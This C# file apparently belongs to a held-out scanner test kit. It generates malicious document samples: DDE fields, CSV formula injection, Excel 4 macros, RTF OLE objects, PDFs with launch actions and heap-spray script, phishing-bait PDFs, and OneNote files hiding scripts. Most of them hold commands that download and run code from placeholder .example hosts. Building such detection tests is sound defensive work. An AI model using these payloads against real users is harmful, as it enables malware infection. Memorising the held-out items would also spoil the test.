using System.Text;

namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>Fields and formulas that start programs.</summary>
public sealed class FieldThatStartsAProgram : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Meeting_minutes.docx", OoxmlBuilder.Word("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k powershell -w 1 -nop iex(iwr https://minutes.board-doc.example/m)\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>Update field</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>").Build());
        yield return ("export_contacts.csv", Dos("""
Name,E-Mail,Company,Note
Anna Berg,a.berg@fabrikam.example,Fabrikam,
Tom Rice,t.rice@contoso.example,Contoso,"=cmd|' /C powershell IEX(wget https://crm.export-list.example/p)'!A0"
Li Wei,l.wei@adatum.example,Adatum,+MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c regsvr32 /s /n /u /i:https://crm.export-list.example/a.sct scrobj.dll'!''
"""));
        yield return ("Questionnaire.docx", OoxmlBuilder.Word("<w:p><w:fldSimple w:instr=\" QUOTE 67 58 92 92 \"/><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAU</w:instrText></w:r><w:r><w:instrText>TO \"C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe\\\\..\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\mshta.exe\" \"https://form.questionnaire-hr.example/q\" \"Fields update\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>").Build());
        yield return ("Rates.slk", Dos("""
ID;P
O;E
NN;NAuto_open;ER1C1;KOut Flank;F
C;X1;Y1;K0;EEXEC("cmd.exe /c curl https://rates.fx-board.example/r.exe -o %temp%\r.exe && %temp%\r.exe")
C;X1;Y2;K0;EHALT()
E
"""));
    }
}

/// <summary>Excel 4 macro sheets.</summary>
public sealed class OldMacroSheet : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Claim_0219.xls", new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet("=EXEC(\"regsvr32 -s C:\\ProgramData\\claim.ocx\")", autoName: 1, visibility: 2)).Build());
        yield return ("Copy_of_bill.xls", new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet("=CALL(\"URLMON\",\"URLDownloadToFileA\",\"JJCCJJ\",\"https://bills.copy-mail.example/ds/1.gif\",\"C:\\Users\\Public\\1.dll\")", autoName: 1, visibility: 1)).Stream("\u0005DocumentSummaryInformation", new byte[200]).Build());
        yield return ("Overdue.xlsm", Sheet("Auto_Open", "<row r=\"3\"><c r=\"A3\"><f>EXEC(\"wmic process call create 'mshta https://due.overdue-acct.example/x.hta'\")</f></c></row><row r=\"4\"><c r=\"A4\"><f>HALT()</f></c></row>"));
        yield return ("Report-2291.xlsb.xlsm", Sheet("_xlnm.Auto_Open23", "<row r=\"9\"><c r=\"H9\"><f>FORMULA(CHAR(61)&amp;CHAR(67)&amp;CHAR(65)&amp;\"LL(\"\"\"&amp;G1&amp;\"\"\",\"\"\"&amp;G2&amp;\"\"\",\"\"JJCCBB\"\",0,\"\"\"&amp;G3&amp;\"\"\",\"\"..\\rut.ocx\"\",0,0)\",H10)</f></c></row><row r=\"11\"><c r=\"H11\"><f>IF(GET.WORKSPACE(13)&lt;770,CLOSE(FALSE),)</f></c></row><row r=\"12\"><c r=\"H12\"><f>EXEC(\"re\"&amp;\"gsvr32 -e -n -i:&amp;\"\"..\\rut.ocx\"\"\")</f></c></row><row r=\"1\"><c r=\"G1\" t=\"str\"><v>uRlMon</v></c><c r=\"G3\" t=\"str\"><v>https://rep.cloud-wp.example/wp-admin/k/</v></c></row>"));
    }

    private static byte[] Sheet(string name, string rows) => new OoxmlBuilder()
        .Part("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/><Override PartName=\"/xl/macrosheets/sheet1.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/></Types>")
        .Relationship("_rels/.rels", "officeDocument", "xl/workbook.xml", isExternal: false)
        .Part("xl/workbook.xml", $"<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"Doc1\" sheetId=\"1\" state=\"veryHidden\" r:id=\"rId1\"/></sheets><definedNames><definedName name=\"{name}\" hidden=\"1\">Doc1!$A$3</definedName></definedNames></workbook>")
        .Part("xl/_rels/workbook.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/sheet1.xml\"/></Relationships>")
        .Part("xl/macrosheets/sheet1.xml", $"<xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>{rows}</sheetData></xm:macrosheet>").Build();
}

/// <summary>Rich text with objects.</summary>
public sealed class RichTextWithObject : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        // An object of the equation editor whose record is filled with letters: nothing that could run.
        byte[] equation = [0x1C, 0, 0, 0, 2, 0, 0x9E, 0xC4, .. new byte[20], 3, 1, 1, 3, 0x0A, 0x0A, 8, 1, 0x5A, 0x5A, .. Enumerable.Repeat((byte)'A', 44), 0x12, 0x0C, 0x43, 0];
        yield return ("Swift_Copy.doc", RtfBuilder.WithObject("Equation.3", new OleFileBuilder().Class("", "0002CE02-0000-0000-C000-000000000046").Stream("\u0001Ole10Native", [.. BitConverter.GetBytes(equation.Length), .. equation]).Build(), "\\objupdate"));
        yield return ("Proforma.rtf", Encoding.Latin1.GetBytes("{\\rt{\\*\\pnaiu8 }\\ansi\\deff0 {\\fonttbl{\\f0 Calibri;}}" + string.Concat(Filler.Noise(93, 300).Select(value => $"{{\\*\\x{value:x}}}")) + "{\\object\\objemb\\objupdate\\objw1\\objh1{\\*\\objdata " + Broken(RtfBuilder.Embedded("EquaTIon.3", [.. equation, .. Filler.Noise(4, 600)])) + "}}}"));
        yield return ("Booking_form.rtf", RtfBuilder.WithPackage("Booking_details.js", Dos("new ActiveXObject('WScript.Shell').Run('powershell -w h irm https://book.hotel-desk.example/b|iex',0)")));
        var link = "https://link.otk-remote.example/doc/hta.hta";
        byte[] moniker = [1, 0, 0, 2, 9, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0, 0xAA, 0, 0x4B, 0xA9, 0x0B, .. BitConverter.GetBytes((link.Length * 2) + 2), .. Encoding.Unicode.GetBytes(link), 0, 0];
        yield return ("Arrival_Notice.doc", Encoding.Latin1.GetBytes("{\\rtf1\\ansi\\ansicpg1252{\\info{\\author Windows User}}\\pard Arrival notice of vessel\\par {\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000002000000090000004f4c45324c696e6b000000000000000000" + Convert.ToHexString([.. BitConverter.GetBytes(3000), .. new OleFileBuilder().Class("", "00000300-0000-0000-C000-000000000046").Stream("\u0001Ole", moniker).Stream("\u0003ObjInfo", new byte[6]).Build()]).ToLowerInvariant() + "}}}"));
    }

    // Hexadecimal with spaces and line ends between the digits, as kits write it.
    private static string Broken(byte[] content) => string.Concat(Convert.ToHexString(content).ToLowerInvariant().Select((digit, at) => at % 7 == 3 ? $"\t {digit}" : at % 61 == 0 ? $"\n{digit}" : $"{digit}"));
}

/// <summary>PDF documents with a script, a program or an attached file.</summary>
public sealed class PortableDocumentThatActs : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Remittance_slip.pdf", new PdfBuilder().Catalogue("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden irm https://slip.pay-advice.example/l | iex) >> >>").Build());
        yield return ("Court_summons.pdf", new PdfBuilder().Catalogue("/OpenAction 5 0 R /Names << /EmbeddedFiles << /Names [(summons.docm) 6 0 R] >> >>")
            .Add(5, "<< /S /JavaScript /JS (this.exportDataObject\\({ cName: \"summons.docm\", nLaunch: 2 }\\);) >>")
            .Add(6, "<< /Type /Filespec /F (summons.docm) /EF << /F 7 0 R >> >>")
            .Stream(7, "/Type /EmbeddedFile", OoxmlBuilder.Word().WithMacros(Project("ThisDocument", "Sub AutoOpen()\nShell \"cmd /c start https://summons.court-files.example\"\nEnd Sub")).Build()).Build());
        yield return ("ticket.pdf", new PdfBuilder().Catalogue("/#4f#70enAction 4 0 R").Add(4, "<< /S /JavaScript /JS 5 0 R >>")
            .Stream(5, "/Filter /FlateDecode", Zlib("""
                var s = unescape("%u4141%u4141%u4141%u4141"); var b = unescape("%u0c0c%u0c0c");
                while (b.length < 0x40000) b += b;
                var m = new Array(); for (var i = 0; i < 300; i++) m[i] = b.substring(0, 0x3fff0 - s.length) + s;
                var p = app["e" + "val"]; if (app.viewerVersion >= 8) { try { Collab.collectEmailInfo({ msg: b }); util.printf("%45000f", 0.1); } catch (e) { app.launchURL("https://air.ticket-view.example/t", true); } }
                """)).Build());
        yield return ("Quotation_request.pdf", new PdfBuilder().Catalogue("/AcroForm << /Fields [6 0 R] /XFA 7 0 R >>").Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /GoToR /F << /F (\\\\\\\\cifs.quote-hub.example@80\\\\share\\\\a) >> /D [0 /Fit] >> >> /Annots [6 0 R] >>")
            .Add(6, "<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 0 595 842] /A << /S /URI /URI (https://dl.quote-hub.example/Quotation.vbs) >> >>")
            .Stream(7, "", Utf8("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform><event activity=\"docReady\"><script contentType=\"application/x-javascript\">xfa.host.gotoURL(\"https://dl.quote-hub.example/Quotation.vbs\"); eval(util.stringFromStream(SOAP.streamDecode(xfa.resolveNode('x').rawValue,'base64')));</script></event></subform></template></xdp:xdp>")).Build());
    }

    internal static byte[] Zlib(string text)
    {
        using var file = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(file, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
            zlib.Write(Utf8(text));
        return file.ToArray();
    }
}

/// <summary>PDF documents with a bait and a link.</summary>
public sealed class PortableDocumentWithBait : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Shared_file_notification.pdf", Page("https://onedrive-live.shared-docs.example/?auth=b64bWFpbA", "0 0 612 792", "You have received a secure document via OneDrive", "View the document with your email and password"));
        yield return ("Factura_pendiente.pdf", Page("https://descarga.factura-cfdi.example/Factura.zip", "150 300 450 360", "Este documento no se puede mostrar. Actualice Adobe Reader para ver la factura.", "DESCARGAR  -  Clave: 2026"));
        yield return ("Invoice_PayPal_499USD.pdf", Page("tel:+18005550142", "100 100 300 140", "PayPal: You sent USD 499.99 to Norton LifeLock. If you did not authorize this payment call +1 (800) 555-0142 within 24 hours to cancel and get a refund", "Call customer support now"));
        yield return ("Bewerbungsunterlagen.pdf", Page("https://www.google.com/url?q=https%3A%2F%2Ftransfer.bewerber-mappe.example%2FLebenslauf.js&sa=D", "60 400 540 500", "Die Datei ist verschluesselt. Klicken Sie auf OEFFNEN, um die Unterlagen herunterzuladen.", "OEFFNEN"));
    }

    private static byte[] Page(string link, string area, string line, string button) => new PdfBuilder()
        .Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> /Annots [5 0 R] >>")
        .Stream(4, "/Filter /FlateDecode", PortableDocumentThatActs.Zlib($"BT /F1 14 Tf 60 700 Td ({line.Replace("(", "\\(", StringComparison.Ordinal).Replace(")", "\\)", StringComparison.Ordinal)}) Tj 0 -60 Td ({button}) Tj ET"))
        .Add(5, $"<< /Type /Annot /Subtype /Link /Rect [{area}] /Border [0 0 0] /A << /S /URI /URI ({link}) >> >>").Build();
}

/// <summary>OneNote sections with a file under a picture.</summary>
public sealed class NoteWithFileUnderButton : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Complaint_0113.one", OneNoteBuilder.Section(("button.png", InertFiles.Png()), ("Open.hta", Dos("<script language=vbscript>CreateObject(\"WScript.Shell\").Run \"cmd /c curl -o %public%\\c.dll https://complaint.note-page.example/01.gif & rundll32 %public%\\c.dll,Wind\",0:close</script>"))));
        yield return ("ApplicationReject.one", OneNoteBuilder.Section(("Open.cmd", Dos($"@echo off\nset a=powers\nset b=hell\n%a%%b% -nop -enc {Encoded("Invoke-WebRequest https://reject.app-status.example/o.jpg -OutFile C:\\programdata\\o.jpg;rundll32 C:\\programdata\\o.jpg,Wind")}\nexit\n"))));
        yield return ("Lieferung.one", OneNoteBuilder.Section(("bild.png", InertFiles.Png(600, 400)), ("Öffnen\u202Efdp.wsf", Dos("<job><script language=\"VBScript\">Execute \"Set o=CreateObject(\"\"WScript.Shell\"\"):o.Run \"\"wscript //e:vbscript \"\" & \"\"https://lieferung.note-de.example/l\"\"\"</script></job>"))));
        yield return ("shared notebook.one", OneNoteBuilder.Section(("cover.png", InertFiles.Png(800, 600)), ("attachment.lnk", new LinkBuilder().To(@"C:\Windows\System32\cmd.exe").With("/c powershell -w h iwr https://nb.shared-one.example/q -o $env:tmp\\q.vbs;wscript $env:tmp\\q.vbs").Icon("shell32.dll").Build()), ("x.pdf.exe", InertFiles.Pe())));
    }
}
